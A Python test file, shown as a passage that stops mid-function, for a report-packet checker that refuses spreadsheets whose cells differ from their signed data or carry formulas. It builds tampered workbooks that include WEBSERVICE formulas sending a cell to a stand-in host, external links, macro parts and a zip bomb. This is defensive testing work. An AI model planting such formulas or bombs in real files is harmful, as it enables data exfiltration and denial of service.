"""The printable form inside a packet (bieu.xlsx) must hold exactly the figures
of its data (so-lieu.json) and no formula: real packets written by the program
(today's writer, and every earlier one from tests/fixtures/sheet_check/),
accepted as they are; then changed in their sheet or their data, signed again
with the unit's key as a dishonest sender would, and refused with a sentence
that names the sheet and the cell.

Why it is long: one feature, with a case for each way a sheet can differ from its data or carry a formula.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import re
import shutil
import zipfile
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from testkit import run_main

from exports.collect.inbox import import_packets
from exports.collect.merge import merge
from exports.collect.trust import enrol
from exports.collect.upward import MERGED_FORMAT as UPWARD_FORMAT
from exports.collect.upward import export_upward
from exports.packets import sheet_check, sheet_read
from exports.packets.container import canonical_zip
from exports.packets.enrolment import read_enrolment, write_enrolment
from exports.packets.format import DATA_JSON, FORM_XLSX, MANIFEST, SIGNATURE, json_bytes
from exports.packets.sheet_check import sheet_problem
from exports.packets.verify import verify_packet
from exports.packets.write import export_packet
from forms import vnformat
from forms.library import default_library
from models.gateway import Gateway
from models.keys import DEMO_PASSPHRASE, create_unit_key, demo_private_key, unlock_key
from models.reporting import enter_values, start_report, view_report
from models.setup import setup_commune

# Signed now: a key made in a fresh test database is today's, and the upper level refuses a packet
# dated before its key was made.
AT = dt.datetime.now(dt.UTC).replace(microsecond=0)
FIXTURES = Path(__file__).parent / "fixtures" / "sheet_check"
FORM_SHEET, VILLAGE_SHEET = "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"
PASSPHRASE = "mật khẩu thử bảng tính"
WHO = "kiem-thu"


# ---- packets and how they are changed ---------------------------------------------------------------


def entries_of(raw: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def problem_of(raw: bytes) -> str | None:
    entries = entries_of(raw)
    manifest = json.loads(entries[MANIFEST])
    form = default_library().get(manifest["form"]["id"], manifest["form"]["version"])
    return sheet_problem(entries[FORM_XLSX], json.loads(entries[DATA_JSON]), form)


def xlsx_with(xlsx: bytes, **changes) -> bytes:
    """The workbook zipped again with parts changed: ``sheet1=fn`` edits xl/worksheets/sheet1.xml's
    text, a part named in ``parts`` is replaced (bytes) or added; openpyxl's own order kept."""
    parts = changes.pop("parts", {})
    names = {
        "sheet1": FORM_SHEET,
        "sheet2": VILLAGE_SHEET,
        "sheet3": "xl/worksheets/sheet3.xml",
        "workbook": "xl/workbook.xml",
        "styles": "xl/styles.xml",
        "rels": "xl/_rels/workbook.xml.rels",
        "types": "[Content_Types].xml",
    }
    entries = entries_of(xlsx)
    for key, edit in changes.items():
        entries[names[key]] = edit(entries[names[key]].decode("utf-8")).encode("utf-8")
    entries.update(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def resigned(raw: bytes, key, *, xlsx: bytes | None = None, data_edit=None) -> bytes:
    """The packet with another bieu.xlsx or so-lieu.json, its hashes redone and signed again with ``key``."""
    entries = entries_of(raw)
    if xlsx is not None:
        entries[FORM_XLSX] = xlsx
    if data_edit is not None:
        data = json.loads(entries[DATA_JSON])
        data_edit(data)
        entries[DATA_JSON] = json_bytes(data)
    manifest = json.loads(entries[MANIFEST])
    for item in manifest["files"]:
        body = entries[item["name"]]
        item.update(size=len(body), sha256=hashlib.sha256(body).hexdigest())
    entries[MANIFEST] = json_bytes(manifest)
    entries[SIGNATURE] = key.sign(entries[MANIFEST])
    return canonical_zip(list(entries.items()))


def set_cell(text: str, at: str, value: str) -> str:
    """A number cell's value replaced, in a sheet's XML."""
    changed, count = re.subn(rf'(<c r="{at}"[^>]*>)<v>[^<]*</v>', rf"\g<1><v>{value}</v>", text)
    assert count == 1, at
    return changed


def times_ten(text: str) -> str:
    return re.sub(r"<v>([0-9]+)</v>", lambda m: f"<v>{int(m.group(1)) * 10}</v>", text)


def number(value: int) -> str:
    return vnformat.number(value)


class Packet(SimpleNamespace):
    """A packet's bytes, its bieu.xlsx and so-lieu.json, and the key that signs it again."""

    def __repr__(self) -> str:  # not its 100 KB, in a Hypothesis report
        return f"Packet({self.data['unit']['name']}, {self.data['period']['label']})"

    @classmethod
    def of(cls, raw: bytes, key) -> Packet:
        """The packet file ``raw`` with its bieu.xlsx and so-lieu.json read out of it."""
        entries = entries_of(raw)
        return cls(raw=raw, xlsx=entries[FORM_XLSX], data=json.loads(entries[DATA_JSON]), key=key)


@pytest.fixture(scope="session")
def commune(demo_template, tmp_path_factory) -> Packet:
    """Xã Mường Tè's kl224 of 2024 compared with its targets, signed with the demo's key for it."""
    folder = tmp_path_factory.mktemp("bieu")
    shutil.copy(demo_template, folder / "demo.db")
    gw = Gateway.open(folder / "demo.db")
    try:
        form = default_library().get("kl224")
        view = view_report(gw, gw.find_report("03445", "kl224", "2024"), form, "muong-te-2025")
        raw = export_packet(gw, view, DEMO_PASSPHRASE, folder, at=AT).path.read_bytes()
    finally:
        gw.close()
    return Packet.of(raw, demo_private_key("03445"))


@pytest.fixture(scope="session")
def merged(upper_template, tmp_path_factory) -> Packet:
    """A small commune's 2024 and 2025, imported by the province demo, whose merged table of 2025
    (compared with targets, with a jump) is signed upward; the province's key signs it again when changed."""
    folder = tmp_path_factory.mktemp("tong-hop")
    library = default_library()
    form = library.get("kl224")
    gw = Gateway.open(folder / "xa.db")
    setup_commune(gw, "03445", ["Bản Nà Hừ", "Bản Pa Ủ & <Nậm Củm>"], "bản", "Lò Thị Mai", "")
    key = create_unit_key(gw, "03445", PASSPHRASE, "Lò Thị Mai")
    (folder / "goi").mkdir()
    for period, cultured in (("2024", 10), ("2025", 40)):
        report = start_report(gw, "03445", form, period)
        first, second = (v.code for v in gw.report_villages(report))
        cells = [
            ("so_ho", first, 80),
            ("ho_van_hoa", first, 57),
            ("so_ho", second, 64),
            ("ho_van_hoa", second, cultured),
        ]
        enter_values(gw, report, form, cells, WHO)
        for finding in view_report(gw, report, form).evaluation.warnings:  # the jump, explained to sign it
            gw.set_reason(report, finding.rule, finding.cell.indicator, finding.cell.village, "Vận động thêm.", WHO)
        export_packet(gw, view_report(gw, report, form), PASSPHRASE, folder / "goi", at=AT)
    enrolment = write_enrolment(key, gw.require_unit("03445"), folder / "khoa.sctk")
    gw.close()
    shutil.copy(upper_template, folder / "tinh.db")
    gw = Gateway.open(folder / "tinh.db")
    try:
        enrol(gw, read_enrolment(enrolment), WHO)
        assert {f.outcome for f in import_packets(gw, [folder / "goi"], library, WHO).filed} == {"accepted"}
        table = merge(gw, "12", form, "2025", form.target_set("muong-te-2025"))
        assert table.jumps and table.targets
        raw = export_upward(gw, table, DEMO_PASSPHRASE, folder, at=AT).path.read_bytes()
    finally:
        gw.close()
    return Packet.of(raw, demo_private_key("12"))


@pytest.fixture(scope="session")
def sapa(tmp_path_factory) -> Packet:
    """Thị xã Sa Pa's own form: amounts in đồng, a date, a text that starts with “=”, no villages."""
    folder = tmp_path_factory.mktemp("sapa")
    library = default_library()
    form = library.get("sapa-11-17")
    gw = Gateway.open(folder / "sapa.db")
    try:
        gw.add_unit("15", "Tỉnh Lào Cai", "tỉnh")
        gw.add_unit("089", "Thị xã Sa Pa", "thị xã", "15")
        key = create_unit_key(gw, "089", PASSPHRASE, "Giàng Thị Mỷ")
        report = gw.ensure_report("089", form.id, form.version, "2022")
        typed = {
            "hoi_nghi_quan_triet": 6,
            "kinh_phi_tong": "6.505.490.000",
            "kinh_phi_ngan_sach": "6.145.490.000",
            "kinh_phi_xa_hoi_hoa": "360.000.000",
            "ngay_chot_so_lieu": "15/12/2022",
            "ghi_chu": "=Đề nghị hỗ trợ thêm kinh phí & <máy chiếu>",
        }
        enter_values(gw, report, form, [(k, "089", v) for k, v in typed.items()], who=WHO)
        raw = export_packet(gw, view_report(gw, report, form, "sa-pa-2022"), PASSPHRASE, folder, at=AT)
        private = unlock_key(gw, key, PASSPHRASE)
    finally:
        gw.close()
    raw = raw.path.read_bytes()
    return Packet.of(raw, private)


def village(data: dict, n: int) -> tuple[str, str]:
    """(code, name) of the n-th village (from 1), printed on row 3 + n of “Theo bản”."""
    found = data["villages"][n - 1]
    return found["code"], found["name"]


# ---- genuine packets pass -----------------------------------------------------------------------------


@pytest.mark.parametrize("path", sorted(FIXTURES.glob("*.sctg")), ids=lambda p: p.stem)
def test_a_packet_from_every_earlier_writer_passes(path, library):
    verdict = verify_packet(path, [], library)
    assert (verdict.status, verdict.problems) == ("chua_tin_cay", []), verdict.problems
    assert problem_of(path.read_bytes()) is None


def test_the_fixtures_cover_every_writer():
    names = {p.stem for p in FIXTURES.glob("*.sctg")}
    assert names == {"c11b09c-xa", "10f3739-tong-hop", "0138287-xa", "0138287-tong-hop"}


@pytest.mark.parametrize("name", ["commune", "merged", "sapa"])
def test_a_packet_written_today_passes(name, request, library, tmp_path):
    packet = request.getfixturevalue(name)
    assert problem_of(packet.raw) is None
    path = tmp_path / "goi.sctg"
    path.write_bytes(packet.raw)
    assert verify_packet(path, [], library).problems == []


@pytest.mark.parametrize("mode", ["report", "annex"])
def test_the_packet_prints_in_the_form_s_own_mode_and_says_which(demo_path, tmp_path, library, mode):
    """A form whose tables are annexes (the seeds') gives an annex in bieu.xlsx: no letterhead, no
    signature; a report form the letterhead and the signature. Both verify, the manifest saying which."""
    form = replace(library.get("kl224"), print_mode=mode)
    gw = Gateway.open(demo_path)
    try:
        view = view_report(gw, gw.find_report("03445", "kl224", "2024"), form)
        exported = export_packet(gw, view, DEMO_PASSPHRASE, tmp_path, at=AT)
    finally:
        gw.close()
    assert exported.manifest["page"]["mode"] == mode
    assert verify_packet(exported.path, [], library).problems == []
    texts = {
        c.value
        for row in openpyxl.load_workbook(io.BytesIO(entries_of(exported.path.read_bytes())[FORM_XLSX]))
        .worksheets[0]
        .iter_rows()
        for c in row
    }
    assert ("ĐẢNG CỘNG SẢN VIỆT NAM" in texts, "Nơi nhận:" in texts) == (mode == "report", mode == "report")
    assert ("PHỤ LỤC" in texts, "BÁO CÁO" in texts) == (mode == "annex", mode == "report")


def test_the_merged_format_is_the_one_upward_writes():
    assert sheet_check.MERGED_FORMAT == UPWARD_FORMAT


# ---- a sheet that says something else ------------------------------------------------------------------


def test_one_number_changed_in_the_village_sheet_is_named(commune, tmp_path, library):
    code, name = village(commune.data, 2)
    households = commune.data["values"]["villages"][code]["so_ho"]
    xlsx = xlsx_with(commune.xlsx, sheet2=lambda t: set_cell(t, "C5", str(households * 10)))
    raw = resigned(commune.raw, commune.key, xlsx=xlsx)
    said = (
        f"tệp bieu.xlsx, trang “Theo bản”, ô C5 (“Số hộ gia đình” của {name}) "
        f"ghi {number(households * 10)} nhưng so-lieu.json ghi {number(households)}."
    )
    assert problem_of(raw) == said
    path = tmp_path / "goi.sctg"
    path.write_bytes(raw)
    verdict = verify_packet(path, [], library)
    assert (verdict.status, verdict.problems) == ("khong_hop_le", [said])
    assert verdict.headline() == f"KHÔNG HỢP LỆ: {said}"


@pytest.mark.slow
def test_packet_verify_on_the_command_line_says_the_cell_and_exits_1(commune, tmp_path):
    formula = 'HYPERLINK("http://ví-dụ.vn","Xem")'
    xlsx = xlsx_with(commune.xlsx, sheet1=lambda t: t.replace("<v>", f"<f>{formula}</f><v>", 1))
    path = tmp_path / "03445_kl224_2024_lan01.sctg"
    path.write_bytes(resigned(commune.raw, commune.key, xlsx=xlsx))
    run = run_main("packet", "verify", path)
    assert run.returncode == 1, (run.stdout, run.stderr)
    said = problem_of(path.read_bytes())
    assert said.startswith("tệp bieu.xlsx, trang “Biểu”, ô ") and f"chứa công thức ={formula}" in said
    assert f"- T{said[1:]}" in run.stdout + run.stderr, (run.stdout, run.stderr)
    data = json.loads(run_main("packet", "verify", path, "--json").stdout)
    assert (data["status"], data["exit_code"], data["problems"]) == ("khong_hop_le", 1, [said])


def test_every_number_times_ten_is_refused_at_the_first(commune):
    xlsx = xlsx_with(commune.xlsx, sheet1=times_ten, sheet2=times_ten)
    row = next(r for r in commune.data["rows"] if r["code"] == "1.1")
    said = problem_of(resigned(commune.raw, commune.key, xlsx=xlsx))
    assert said.startswith("tệp bieu.xlsx, trang “Biểu”, ô D")
    assert f"(cột “Tổng số” của chỉ tiêu 1.1) ghi {number(row['total'] * 10)} nhưng so-lieu.json ghi " in said


def test_every_number_times_ten_in_the_villages_alone(commune):
    xlsx = xlsx_with(commune.xlsx, sheet2=times_ten)
    said = problem_of(resigned(commune.raw, commune.key, xlsx=xlsx))
    assert said.startswith("tệp bieu.xlsx, trang “Theo bản”, ô A4 ghi 10 nhưng so-lieu.json ghi 1.")


def test_a_yes_turned_into_no_is_named(commune):
    code, name = village(commune.data, 1)
    value = commune.data["values"]["villages"][code]["ban_co_nvh"]
    before, after = ("Có", "Không") if value else ("Không", "Có")
    xlsx = xlsx_with(commune.xlsx, sheet2=lambda t: t.replace(f"<t>{before}</t>", f"<t>{after}</t>", 1))
    assert problem_of(resigned(commune.raw, commune.key, xlsx=xlsx)) == (
        f"tệp bieu.xlsx, trang “Theo bản”, ô D4 (chỉ tiêu 2.3 của {name}) "
        f"ghi “{after}” nhưng so-lieu.json ghi “{before}”."
    )


def test_a_figure_of_the_form_sheet_is_named(commune):
    row = next(r for r in commune.data["rows"] if r["code"] == "2.3")
    xlsx = xlsx_with(commune.xlsx, sheet1=lambda t: t.replace(f"<v>{row['achieved']}</v>", "<v>0</v>", 1))
    said = problem_of(resigned(commune.raw, commune.key, xlsx=xlsx))
    assert re.fullmatch(
        r"tệp bieu\.xlsx, trang “Biểu”, ô [DE][0-9]+ \(cột “(Tổng số|Số đạt)” của chỉ tiêu [0-9.]+\) ghi 0 "
        r"nhưng so-lieu\.json ghi [0-9.]+\.",
        said,
    ), said


@pytest.mark.parametrize(
    "written", ["\x01", "\x1f", "\uffff", "\ufffe", "&#1;", "&#x1F;", "&#xb;", "&#0031;"], ids=repr
)
def test_a_character_no_xml_reader_opens_is_refused(commune, written):
    # Found by a cheap look at the bytes first, then by the pattern: each way of writing one still refused.
    def with_character(text: str) -> str:
        changed, count = re.subn(r'(<c r="B4"[^>]*><is><t[^>]*>)', rf"\g<1>{written}", text, count=1)
        assert count == 1
        return changed

    said = problem_of(resigned(commune.raw, commune.key, xlsx=xlsx_with(commune.xlsx, sheet2=with_character)))
    assert said == "tệp bieu.xlsx, trang “Theo bản” có ký tự điều khiển mà không chương trình nào đọc được."


def test_the_cheap_look_for_such_characters_misses_none_the_pattern_finds():
    found = sheet_read._FORBIDDEN
    for code in [*range(0xD800), *range(0xE000, 0x10000), 0x10FFFF]:
        text = f"<t>a{chr(code)}b</t>"
        assert sheet_read._may_be_forbidden(text.encode()) or not found.search(text), hex(code)
    for reference in ("&#1;", "&#x1F;", "&#xb;", "&#0031;", "&#X1f;"):
        assert found.search(reference) and sheet_read._may_be_forbidden(reference.encode())


def skeleton_outcome(check, skeleton: str) -> str | None:
    try:
        check("Biểu", skeleton)
    except sheet_read.SheetRefused as exc:
        return str(exc)
    return None


@pytest.mark.parametrize(
    "footer",
    [
        "Trang &amp;P/&amp;N Mã khóa 1234",
        "",
        "&bogus;",
        "a]]>b",
        "a]b",
        "a\x01b",
        "&#1;",
        "&#65;",
        "a<!-- x -->b",
        "<![CDATA[a]]>",
        "a</oddFooter><f>1+1</f><oddFooter>b",
        'a</oddFooter></headerFooter><cols><col min="1" max="1" hidden="1"/></cols><headerFooter><oddFooter>b',
    ],
    ids=repr,
)
@pytest.mark.parametrize("around", ["", "<!-- <oddFooter>a--b</oddFooter> -->", "<?pi x?>", "<x/>"], ids=repr)
def test_a_skeleton_is_judged_the_same_with_its_footer_taken_out(commune, footer, around):
    # The footer's plain text is taken out so that the rest is parsed once for most packets: never
    # anything accepted or refused that parsing it whole would not, nor in other words.
    with zipfile.ZipFile(io.BytesIO(commune.xlsx)) as archive:
        text = archive.read(FORM_SHEET).decode("utf-8")
    start, end = text.index("<sheetData>"), text.index("</sheetData>") + len("</sheetData>")
    skeleton = text[:start] + "<sheetData/>" + text[end:]
    changed, count = re.subn(r"<oddFooter>[^<]*</oddFooter>", lambda _: f"<oddFooter>{footer}</oddFooter>", skeleton)
    assert count == 1
    changed = changed.replace("<sheetData/>", around + "<sheetData/>")
    said = skeleton_outcome(sheet_read._check_skeleton, changed)
    assert said == skeleton_outcome(sheet_read._parse_skeleton, changed)
    assert said == skeleton_outcome(sheet_read._check_skeleton, changed)  # and again, from the cache
    if footer.startswith("Trang") and not around:
        assert said is None


def test_a_number_stored_as_text_is_named(commune):
    code, name = village(commune.data, 1)
    households = commune.data["values"]["villages"][code]["so_ho"]

    def as_text(text: str) -> str:
        return re.sub(
            r'<c r="C4" s="([0-9]+)" t="n"><v>[0-9]+</v></c>',
            rf'<c r="C4" s="\1" t="inlineStr"><is><t>{households}</t></is></c>',
            text,
        )

    said = problem_of(resigned(commune.raw, commune.key, xlsx=xlsx_with(commune.xlsx, sheet2=as_text)))
    assert said == (
        f"tệp bieu.xlsx, trang “Theo bản”, ô C4 (“Số hộ gia đình” của {name}) ghi “{households}” dạng chữ, "
        "so-lieu.json ghi dạng số."
    ) or said.endswith(f"ghi “{households}” nhưng so-lieu.json ghi {number(households)}."), said


def test_a_row_for_a_village_not_in_the_data_is_refused(commune):
    n = len(commune.data["villages"]) + 4
    row = f'<row r="{n}"><c r="A{n}" t="n"><v>{n - 3}</v></c><c r="B{n}" t="inlineStr"><is><t>Bản Lạ</t></is></c>'
    row += f'<c r="C{n}" t="n"><v>99</v></c></row>'
    xlsx = xlsx_with(commune.xlsx, sheet2=lambda t: t.replace("</sheetData>", row + "</sheetData>"))
    assert problem_of(resigned(commune.raw, commune.key, xlsx=xlsx)) == (
        f"tệp bieu.xlsx, trang “Theo bản”, ô A{n} (dòng không có trong so-lieu.json) ghi {n - 3} "
        "nhưng theo so-lieu.json ô này phải để trống."
    )


def test_a_number_below_the_table_is_refused(commune):
    row = '<row r="200"><c r="E200" t="n"><v>150</v></c></row>'
    xlsx = xlsx_with(commune.xlsx, sheet1=lambda t: t.replace("</sheetData>", row + "</sheetData>"))
    assert problem_of(resigned(commune.raw, commune.key, xlsx=xlsx)) == (
        "tệp bieu.xlsx, trang “Biểu”, ô E200 ghi số 150 ngoài bảng chỉ tiêu; biểu của Sổ Chỉ Tiêu không có số ở đó."
    )


def test_a_text_slipped_into_the_table_out_of_row_order_is_refused(commune):
    early = '<row r="20"><c r="I20" t="inlineStr"><is><t>Đạt 100%</t></is></c></row>'
    xlsx = xlsx_with(commune.xlsx, sheet1=lambda t: t.replace("<sheetData>", "<sheetData>" + early))
    assert problem_of(resigned(commune.raw, commune.key, xlsx=xlsx)) == (
        "tệp bieu.xlsx, trang “Biểu”, ô I20 ghi “Đạt 100%” nhưng theo so-lieu.json ô này phải để trống."
    )


def test_a_second_row_with_the_same_number_is_refused(commune):
    def twice(text: str) -> str:
        row = re.search(r'<row r="5".*?</row>', text).group()
        return text.replace(row, row + row.replace("<v>", "<v>9"), 1)

    assert problem_of(resigned(commune.raw, commune.key, xlsx=xlsx_with(commune.xlsx, sheet2=twice)))


# ---- formulas and what is not ours --------------------------------------------------------------------

FORMULAS = ['HYPERLINK("http://ví-dụ.vn/x","Bấm vào đây")', 'WEBSERVICE("http://ví-dụ.vn/?"&amp;A1)', "1+1"]


@pytest.mark.parametrize("formula", FORMULAS, ids=["hyperlink", "webservice", "sum"])
@pytest.mark.parametrize(
    ("part", "at", "how"),
    [
        ("sheet2", "C5", "in a village's figure"),
        ("sheet2", "B4", "in a village's name"),
        ("sheet1", "Z1", "in a new cell of the header"),
        ("sheet1", "A1", "in the first cell"),
    ],
)
def test_a_formula_anywhere_is_refused_naming_its_cell(commune, formula, part, at, how):
    def with_formula(text: str) -> str:
        cell = f'<c r="{at}" t="str"><f>{formula}</f><v>15</v></c>'
        existing = re.search(rf'<c r="{at}"[^>]*?(?:/>|>.*?</c>)', text)
        if existing:
            return text.replace(existing.group(), cell, 1)
        return re.sub(rf'(<row r="{at[1:]}"[^>]*>.*?)</row>', rf"\g<1>{cell}</row>", text, count=1)

    said = problem_of(resigned(commune.raw, commune.key, xlsx=xlsx_with(commune.xlsx, **{part: with_formula})))
    shown = formula.replace("&amp;", "&")[:60]
    sheet = "Theo bản" if part == "sheet2" else "Biểu"
    assert said == (
        f"tệp bieu.xlsx, trang “{sheet}”, ô {at} chứa công thức ={shown}; biểu trong gói không được có công thức."
    )


@pytest.mark.parametrize(
    "cell",
    [
        '<c r="C4" s="11"><f t="shared" ref="C4:C6" si="0">C5*10</f><v>1</v></c>',
        '<c r="C4"><f t="array" ref="C4">SUM(C5:C6)</f><v>1</v></c>',
        '<x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="C4"><x:f>1+1</x:f></x:c>',
    ],
    ids=["shared", "array", "prefixed"],
)
def test_other_ways_of_writing_a_formula_are_refused(commune, cell):
    xlsx = xlsx_with(commune.xlsx, sheet2=lambda t: re.sub(r'<c r="C4".*?</c>', cell, t, count=1))
    said = problem_of(resigned(commune.raw, commune.key, xlsx=xlsx))
    assert said.startswith("tệp bieu.xlsx, trang “Theo bản”, ô C4 chứa công thức"), said


CONDITIONAL = (
    '<conditionalFormatting sqref="C4"><cfRule type="expression" priority="1">'
    '<formula>WEBSERVICE("http://x")</formula></cfRule></conditionalFormatting>'
)
VALIDATION = (
    '<dataValidations count="1"><dataValidation sqref="C4"><formula1>1</formula1></dataValidation></dataValidations>'
)


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        (
            {
                "workbook": lambda t: t.replace(
                    "</definedNames>", '<definedName name="x">WEBSERVICE("http://x")</definedName></definedNames>'
                )
            },
            'tệp bieu.xlsx có tên “x” chứa công thức “WEBSERVICE("http://x")”',
        ),
        (
            {"workbook": lambda t: t.replace("'Theo bản'!$3:$3", "'Theo bản'!$3:$3+HYPERLINK(\"http://x\")")},
            "có tên “_xlnm.Print_Titles” chứa công thức",
        ),
        (
            {"sheet2": lambda t: t.replace("<printOptions", CONDITIONAL + "<printOptions")},
            "có công thức (<conditionalFormatting>)",
        ),
        (
            {"sheet2": lambda t: t.replace("<printOptions", VALIDATION + "<printOptions")},
            "có công thức (<dataValidations>)",
        ),
        (
            {"parts": {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}},
            "phần “xl/externalLinks/externalLink1.xml”",
        ),
        (
            {"parts": {"xl/worksheets/_rels/sheet1.xml.rels": b"<Relationships/>"}},
            "phần “xl/worksheets/_rels/sheet1.xml.rels”",
        ),
        ({"parts": {"xl/vbaProject.bin": b"\x00" * 10}}, "phần “xl/vbaProject.bin”"),
        ({"parts": {"xl/sharedStrings.xml": b"<sst/>"}}, "phần “xl/sharedStrings.xml”"),
        (
            {
                "rels": lambda t: t.replace(
                    'Target="styles.xml"', 'Target="http://ví-dụ.vn/s.xml" TargetMode="External"'
                )
            },
            "liên kết lạ “http://ví-dụ.vn/s.xml”",
        ),
        (
            {"types": lambda t: t.replace("spreadsheetml.worksheet+xml", "application/vnd.ms-excel.macrosheet+xml", 1)},
            "kiểu nội dung lạ",
        ),
        (
            {"workbook": lambda t: t.replace('state="visible" r:id="rId2"', 'state="hidden" r:id="rId2"')},
            "trang “Theo bản” bị ẩn",
        ),
        ({"workbook": lambda t: t.replace('name="Theo bản"', 'name="Theo bản cũ"')}, "trang lạ “Theo bản cũ”"),
        ({"sheet2": lambda t: t.replace('<col width="28"', '<col hidden="1" width="28"')}, "có cột bị ẩn"),
        ({"sheet2": lambda t: t.replace('<row r="5"', '<row r="5" hidden="1"', 1)}, "dòng 5 bị ẩn"),
        ({"sheet2": lambda t: t.replace("<printOptions", "<hyperlinks/><printOptions")}, "có phần lạ <hyperlinks>"),
        ({"sheet2": lambda t: '<!DOCTYPE worksheet [<!ENTITY x "1">]>' + t}, "khai báo DTD"),
        (
            {"sheet2": lambda t: t.replace('t="inlineStr"><is><t>Có</t></is>', 't="s"><v>0</v>', 1)},
            "kiểu dữ liệu lạ (t=“s”)",
        ),
        ({"styles": lambda t: re.sub(r'formatCode="[^"]*"', 'formatCode="0&quot;0&quot;"', t)}, "định dạng số lạ"),
    ],
    ids=[
        "defined-name",
        "print-titles-with-a-formula",
        "conditional-format",
        "validation",
        "external-link",
        "sheet-relations",
        "macros",
        "shared-strings",
        "external-target",
        "macro-sheet",
        "hidden-sheet",
        "renamed-sheet",
        "hidden-column",
        "hidden-row",
        "hyperlinks",
        "doctype",
        "shared-string-cell",
        "number-format",
    ],
)
def test_what_the_program_never_writes_is_refused(commune, changes, words):
    said = problem_of(resigned(commune.raw, commune.key, xlsx=xlsx_with(commune.xlsx, **changes)))
    assert said and said.startswith("tệp bieu.xlsx") and words in said, said


def test_a_number_format_that_prints_other_digits_is_refused(commune):
    # 15 printed as “150” without touching the value: a literal digit in the format.
    def literal(text: str) -> str:
        added = '<numFmt numFmtId="200" formatCode="0&quot;0&quot;" />'
        text = re.sub(r'<numFmts count="([0-9]+)">', lambda m: f'<numFmts count="{int(m[1]) + 1}">{added}', text)
        return text.replace('<xf numFmtId="1" ', '<xf numFmtId="200" ')

    shown = openpyxl.load_workbook(io.BytesIO(xlsx_with(commune.xlsx, styles=literal)))["Theo bản"]["A4"]
    assert (shown.value, shown.number_format) == (1, '0"0"')  # what Excel would print as 10
    said = problem_of(resigned(commune.raw, commune.key, xlsx=xlsx_with(commune.xlsx, styles=literal)))
    assert said and "định dạng số lạ" in said, said


@pytest.mark.parametrize(
    ("xlsx", "words"),
    [
        (b"PK\x03\x04 cut short", "hỏng, không đọc được"),
        (b"not a zip at all", "hỏng, không đọc được"),
    ],
)
def test_a_sheet_that_is_not_a_workbook(commune, xlsx, words):
    assert words in problem_of(resigned(commune.raw, commune.key, xlsx=xlsx))


def test_a_zip_bomb_is_refused_before_it_is_expanded(commune):
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries_of(commune.xlsx).items():
            archive.writestr(name, data)
        archive.writestr("xl/worksheets/sheet9.xml", b" " * (17 * 1024 * 1024))
    assert len(bomb.getvalue()) < 200_000
    said = problem_of(resigned(commune.raw, commune.key, xlsx=bomb.getvalue()))
    assert said == "tệp bieu.xlsx giải nén ra quá lớn (có thể là “bom zip”); không mở."


def test_too_many_parts_are_refused(commune):
    many = xlsx_with(commune.xlsx, parts={f"xl/worksheets/sheet{n}.xml": b"<x/>" for n in range(3, 40)})
    assert "quá nhiều cho một biểu" in problem_of(resigned(commune.raw, commune.key, xlsx=many))


# ---- data that says something else ----------------------------------------------------------------------


def test_data_changed_but_not_the_sheet_is_named(commune):
    code, name = village(commune.data, 3)
    households = commune.data["values"]["villages"][code]["so_ho"]

    def edit(data):
        data["values"]["villages"][code]["so_ho"] = households + 1

    assert problem_of(resigned(commune.raw, commune.key, data_edit=edit)) == (
        f"tệp bieu.xlsx, trang “Theo bản”, ô C6 (“Số hộ gia đình” của {name}) ghi {number(households)} "
        f"nhưng so-lieu.json ghi {number(households + 1)}."
    )


def test_a_commune_cell_changed_in_the_data_is_named_on_the_form(commune):
    typed = commune.data["values"]["commune"]["cb_boi_duong"]

    def edit(data):
        data["values"]["commune"]["cb_boi_duong"] = typed - 1

    said = problem_of(resigned(commune.raw, commune.key, data_edit=edit))
    assert re.fullmatch(
        rf"tệp bieu\.xlsx, trang “Biểu”, ô E[0-9]+ \(cột “Số đạt” của chỉ tiêu 1\.1\) ghi {typed} "
        rf"nhưng so-lieu\.json ghi {typed - 1}\.",
        said,
    ), said


def test_a_summed_figure_changed_in_the_data_is_named(commune):
    def edit(data):
        row = next(r for r in data["rows"] if r["code"] == "3.1")
        row["achieved"] += 7

    said = problem_of(resigned(commune.raw, commune.key, data_edit=edit))
    assert "(cột “Số đạt” của chỉ tiêu 3.1)" in said, said


def test_a_target_changed_in_the_data_is_named(commune):
    def edit(data):
        data["targets"][0]["text"] = "≥ 99%: đạt"

    said = problem_of(resigned(commune.raw, commune.key, data_edit=edit))
    assert "(cột “Mục tiêu” của chỉ tiêu" in said and "“≥ 99%”" in said, said


def test_a_value_removed_from_the_data_leaves_a_cell_that_should_be_empty(commune):
    code, name = village(commune.data, 2)

    def edit(data):
        del data["values"]["villages"][code]["ban_co_nvh"]

    said = problem_of(resigned(commune.raw, commune.key, data_edit=edit))
    assert said.startswith(f"tệp bieu.xlsx, trang “Theo bản”, ô D5 (chỉ tiêu 2.3 của {name}) ghi “")
    assert said.endswith("nhưng theo so-lieu.json ô này phải để trống.")


def test_values_of_a_village_the_sheet_does_not_list_are_refused(commune):
    def edit(data):
        data["values"]["villages"]["03445.99"] = {"so_ho": 40}

    assert problem_of(resigned(commune.raw, commune.key, data_edit=edit)) == (
        "tệp so-lieu.json ghi chỉ tiêu “so_ho” của bản mã 03445.99 nhưng tệp bieu.xlsx không có ô nào cho số liệu này."
    )


def test_empty_cells_and_missing_values_agree(commune):
    """A value missing from the data, null or "" is an empty cell, written or not, whichever way it is empty."""
    code, _ = village(commune.data, 2)

    def missing(data):
        data["values"]["villages"][code]["so_ho"] = None
        data["values"]["villages"][code]["ho_van_hoa"] = ""
        del data["values"]["villages"][code]["ban_co_nvh"]

    def emptied(text: str) -> str:
        text = re.sub(r'<c r="C5" s="([0-9]+)" t="n"><v>[0-9]+</v></c>', r'<c r="C5" s="\1" t="n"><v></v></c>', text)
        text = re.sub(r'<c r="F5" s="([0-9]+)" t="n"><v>[0-9]+</v></c>', r'<c r="F5" s="\1" t="n" />', text)
        return re.sub(
